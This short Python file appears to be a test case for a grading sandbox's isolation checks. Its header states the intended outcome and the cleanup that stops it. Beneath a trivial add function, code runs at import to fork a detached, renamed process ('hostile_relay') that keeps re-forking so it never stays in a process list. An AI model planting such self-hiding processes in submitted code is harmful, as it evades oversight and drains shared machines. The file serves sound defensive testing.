# class: isolation
# want: passed
# problem: add
# what: leaves a process that forks itself on and on, so that no list of processes is ever complete
# stops: one kill for everything with the job's uid, repeated until nothing is left
import ctypes
import os

if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(15, b"hostile_relay", 0, 0, 0)
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


def add(a, b):
    return a + b
